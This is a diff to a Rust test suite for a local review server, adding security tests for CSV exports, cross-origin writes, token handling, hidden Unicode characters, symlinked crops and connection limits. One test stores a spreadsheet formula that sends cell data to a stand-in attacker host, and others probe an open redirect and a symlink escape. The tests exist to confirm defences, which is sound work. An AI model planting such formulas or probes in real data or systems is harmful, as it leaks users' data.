@@ -128,7 +128,7 @@ fn post_expecting_continue(url: &str, content_type: &str, body: &str) -> (u16, S
         .unwrap();
     write!(
         stream,
-        "POST /{path} HTTP/1.1\r\nhost: {host}\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\nexpect: 100-continue\r\nconnection: close\r\n\r\n",
+        "POST /{path} HTTP/1.1\r\nhost: {host}\r\norigin: http://{host}\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\nexpect: 100-continue\r\nconnection: close\r\n\r\n",
         body.len()
     )
     .unwrap();
@@ -173,10 +173,18 @@ fn post_expecting_continue(url: &str, content_type: &str, body: &str) -> (u16, S
     }
 }
 
-/// (status, body) of a JSON POST.
+/// The origin (`http://host:port`) of an address, as a browser's `Origin`
+/// names the page a write comes from.
+fn origin_of(url: &str) -> &str {
+    let rest = url.strip_prefix("http://").expect("an http:// address");
+    &url[..7 + rest.find('/').unwrap_or(rest.len())]
+}
+
+/// (status, body) of a JSON POST, from the server's own origin.
 fn post_json(agent: &ureq::Agent, url: &str, body: &Value) -> (u16, String) {
     let mut r = agent
         .post(url)
+        .header("origin", origin_of(url))
         .header("content-type", "application/json")
         .send(body.to_string())
         .unwrap();
@@ -774,8 +782,10 @@ fn a_server_killed_with_sigkill_keeps_every_acknowledged_decision() {
                 let v = versions.get(id).copied().unwrap_or(0);
                 let note = format!("racing the kill {sent}");
                 sent += 1;
+                let url = decisions_url(&base, id);
                 let r = agent
-                    .post(decisions_url(&base, id))
+                    .post(&url)
+                    .header("origin", origin_of(&url))
                     .header("content-type", "application/json")
                     .send(
                         json!({"version": v, "verdict": "rejected", "note": note, "reviewer": "kim"})
@@ -836,6 +846,10 @@ fn malformed_and_foreign_requests_get_a_4xx_with_a_reason() {
     let api = decisions_url(base, &ids[0]);
     let send = |url: &str, content_type: &str, body: String, headers: &[(&str, &str)]| {
         let mut req = agent.post(url).header("content-type", content_type);
+        // As a browser would send it, unless the case says otherwise.
+        if !headers.iter().any(|(k, _)| *k == "origin") {
+            req = req.header("origin", origin_of(url));
+        }
         for (k, v) in headers {
             req = req.header(*k, *v);
         }
@@ -1073,6 +1087,243 @@ fn beyond_loopback_every_request_needs_the_token() {
         "{}",
         r.body_mut().read_to_string().unwrap()
     );
+}
+
+// ---- what an outsider could try ------------------------------------------
+
+/// The generated token a server beyond loopback printed.
+fn printed_token(server: &Server) -> String {
+    server
+        .url
+        .split_once("?token=")
+        .map(|(_, t)| t.to_string())
+        .expect("a generated token in the printed address")
+}
+
+#[test]
+fn exports_show_formulas_as_text() {
+    let run = reviewed_run();
+    let tmp = tempfile::tempdir().unwrap();
+    let db = tmp.path().join("review.sqlite");
+    let server = Server::start(run, &db, &[]);
+    let ids = candidate_ids(&server);
+    let note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    let (status, body) = post_json(
+        &agent(),
+        &decisions_url(&server.base, &ids[0]),
+        &json!({"version": 0, "verdict": "accepted", "note": note, "reviewer": "@kim"}),
+    );
+    assert_eq!(status, 201, "{body}");
+    for (export, note_column, reviewer_column) in [
+        ("decisions.csv", "note", "reviewer"),
+        ("accepted-defects.csv", "note", "reviewer"),
+    ] {
+        let (status, csv) = get(&agent(), &format!("{}/export/{export}", server.base));
+        assert_eq!(status, 200, "{csv}");
+        let path = tmp.path().join(export);
+        std::fs::write(&path, csv).unwrap();
+        let row = python_run(
+            "import csv, json, sys\n\
+             rows = list(csv.DictReader(open(sys.argv[1], newline='')))\n\
+             print(json.dumps([rows[0][sys.argv[2]], rows[0][sys.argv[3]]]))",
+            &[path.to_str().unwrap(), note_column, reviewer_column],
+        );
+        let [shown_note, shown_reviewer]: [String; 2] = serde_json::from_str(&row).unwrap();
+        assert_eq!(shown_note, format!("'{note}"), "{export}");
+        assert_eq!(shown_reviewer, "'@kim", "{export}");
+    }
+    // The database keeps what was typed.
+    assert_eq!(stored_decisions(&db)[0][4], note);
+}
+
+#[test]
+fn writes_say_where_they_come_from_and_tokens_stay_out_of_write_addresses() {
+    let run = reviewed_run();
+    let tmp = tempfile::tempdir().unwrap();
+    let db = tmp.path().join("review.sqlite");
+    let server = Server::start(run, &db, &["--addr", "0.0.0.0:0"]);
+    let token = printed_token(&server);
+    let ids = candidate_ids_with(&server, &token);
+    let url = decisions_url(&server.base, &ids[0]);
+    let decision = json!({"version": 0, "verdict": "accepted", "reviewer": "kim"}).to_string();
+    let agent = agent();
+    let answer = |r: Result<ureq::http::Response<ureq::Body>, ureq::Error>| {
+        let mut r = r.unwrap();
+        (r.status().as_u16(), r.body_mut().read_to_string().unwrap())
+    };
+    // The token in a write's address is not taken, even from the server's origin.
+    let (status, body) = answer(
+        agent
+            .post(format!("{url}?token={token}"))
+            .header("origin", origin_of(&url))
+            .header("content-type", "application/json")
+            .send(&decision),
+    );
+    assert_eq!(status, 401, "{body}");
+    // A write that says neither Origin nor Sec-Fetch-Site, with the token in
+    // a cookie (as a browser would send it to a form from anywhere).
+    let (status, body) = answer(
+        agent
+            .post(&url)
+            .header("cookie", format!("postflight_token={token}"))
+            .header("content-type", "application/json")
+            .send(&decision),
+    );
+    assert_eq!(status, 403, "{body}");
+    assert!(body.contains("say where it comes from"), "{body}");
+    assert!(stored_decisions(&db).is_empty());
+    // A script with the bearer token needs no Origin: no other site can send it.
+    let (status, body) = answer(
+        agent
+            .post(&url)
+            .header("authorization", format!("Bearer {token}"))
+            .header("content-type", "application/json")
+            .send(&decision),
+    );
+    assert_eq!(status, 201, "{body}");
+    // The printed address with a second slash stays on this server.
+    let r = agent
+        .get(format!("{}//evil.example/?token={token}", server.base))
+        .call()
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 303);
+    let location = r.headers()["location"].to_str().unwrap();
+    assert!(
+        location.starts_with('/') && !location.starts_with("//"),
+        "{location}"
+    );
+}
+
+/// The queue's candidate ids from a server that needs `token`.
+fn candidate_ids_with(server: &Server, token: &str) -> Vec<String> {
+    let mut r = agent()
+        .get(format!("{}/api/candidates", server.base))
+        .header("authorization", format!("Bearer {token}"))
+        .call()
+        .unwrap();
+    let v: Value = serde_json::from_str(&r.body_mut().read_to_string().unwrap()).unwrap();
+    v["candidates"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["id"].as_str().unwrap().to_string())
+        .collect()
+}
+
+#[test]
+fn names_and_notes_hold_no_hidden_characters() {
+    let run = reviewed_run();
+    let tmp = tempfile::tempdir().unwrap();
+    let db = tmp.path().join("review.sqlite");
+    let server = Server::start(run, &db, &[]);
+    let ids = candidate_ids(&server);
+    let url = decisions_url(&server.base, &ids[0]);
+    for (reviewer, note, says) in [
+        ("\u{202E}\u{200B}", "", "reviewer name cannot hold"),
+        ("\u{2066}kim\u{2069}", "", "reviewer name cannot hold"),
+        ("kim\u{0}", "", "reviewer name cannot hold"),
+        ("\u{3000}", "", "needs a reviewer name"),
+        ("kim", "crack\u{0} wide", "control characters (U+0000)"),
+    ] {
+        let (status, body) = post_json(
+            &agent(),
+            &url,
+            &json!({"version": 0, "verdict": "accepted", "note": note, "reviewer": reviewer}),
+        );
+        assert_eq!(status, 422, "{reviewer:?} {note:?}: {body}");
+        assert!(body.contains(says), "{reviewer:?} {note:?}: {body}");
+    }
+    assert!(stored_decisions(&db).is_empty());
+    // Tabs and line breaks are a note's own.
+    let (status, body) = post_json(
+        &agent(),
+        &url,
+        &json!({"version": 0, "verdict": "accepted", "note": "one\ttwo\r\nthree", "reviewer": "Zoë"}),
+    );
+    assert_eq!(status, 201, "{body}");
+}
+
+#[test]
+fn a_crop_linked_out_of_the_run_is_not_served() {
+    let tmp = tempfile::tempdir().unwrap();
+    let run = tmp.path().join("run");
+    copy_dir(reviewed_run(), &run);
+    let defects: Value =
+        serde_json::from_str(&std::fs::read_to_string(run.join("defects.json")).unwrap()).unwrap();
+    let with_crops: Vec<(String, String)> = defects["defects"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|d| {
+            Some((
+                d["id"].as_str()?.to_string(),
+                d["crop"].as_str()?.to_string(),
+            ))
+        })
+        .collect();
+    let [(outside, outside_crop), (inside, inside_crop), ..] = &with_crops[..] else {
+        panic!("the fixture has two crops")
+    };
+    let secret = tmp.path().join("secret.jpg");
+    std::fs::copy(run.join(outside_crop), &secret).unwrap();
+    std::fs::remove_file(run.join(outside_crop)).unwrap();
+    std::os::unix::fs::symlink(&secret, run.join(outside_crop)).unwrap();
+    // A link that stays inside the run is still a crop of the run.
+    let kept = run.join("defects").join("kept.jpg");
+    std::fs::rename(run.join(inside_crop), &kept).unwrap();
+    std::os::unix::fs::symlink(&kept, run.join(inside_crop)).unwrap();
+    let server = Server::start(&run, &run.join("review.sqlite"), &[]);
+    let crop = |id: &str| {
+        let url = format!("{}/candidates/{}/crop", server.base, url_path(id));
+        agent().get(url).call().unwrap().status().as_u16()
+    };
+    assert_eq!(crop(outside), 404);
+    assert_eq!(crop(inside), 200);
+}
+
+#[test]
+fn half_open_idle_and_surplus_connections_are_bounded() {
+    use std::io::{Read, Write};
+    let run = reviewed_run();
+    let tmp = tempfile::tempdir().unwrap();
+    let server = Server::start(run, &tmp.path().join("review.sqlite"), &[]);
+    let address = server.base.strip_prefix("http://").unwrap().to_string();
+    let closed_within = |mut stream: std::net::TcpStream, limit: Duration| {
+        let start = Instant::now();
+        stream.set_read_timeout(Some(limit)).unwrap();
+        let mut sink = Vec::new();
+        let ended = stream.read_to_end(&mut sink).is_ok();
+        assert!(ended, "still open after {limit:?}");
+        start.elapsed()
+    };
+    // Headers that never finish, and a connection idle after its answer.
+    let mut half_open = std::net::TcpStream::connect(&address).unwrap();
+    write!(half_open, "GET / HTTP/1.1\r\nhost: {address}\r\n").unwrap();
+    let mut idle = std::net::TcpStream::connect(&address).unwrap();
+    write!(
+        idle,
+        "GET /assets/review.css HTTP/1.1\r\nhost: {address}\r\n\r\n"
+    )
+    .unwrap();
+    let limit = Duration::from_secs(30);
+    let half_open = std::thread::spawn(move || closed_within(half_open, limit));
+    let waited = closed_within(idle, limit);
+    assert!(waited >= Duration::from_secs(9), "closed after {waited:?}");
+    let waited = half_open.join().unwrap();
+    assert!(waited >= Duration::from_secs(9), "closed after {waited:?}");
+    // Past the cap, a connection waits until one closes.
+    let held: Vec<_> = (0..128)
+        .map(|_| std::net::TcpStream::connect(&address).unwrap())
+        .collect();
+    let quick = ureq::Agent::config_builder()
+        .http_status_as_error(false)
+        .timeout_global(Some(Duration::from_secs(3)))
+        .build();
+    let quick: ureq::Agent = quick.into();
+    let url = format!("{}/assets/review.css", server.base);
+    assert!(quick.get(&url).call().is_err(), "answered past the cap");
+    drop(held);
+    assert_eq!(get(&agent(), &url).0, 200);
 }
 
 // ---- localisation re-run ---------------------------------------------------
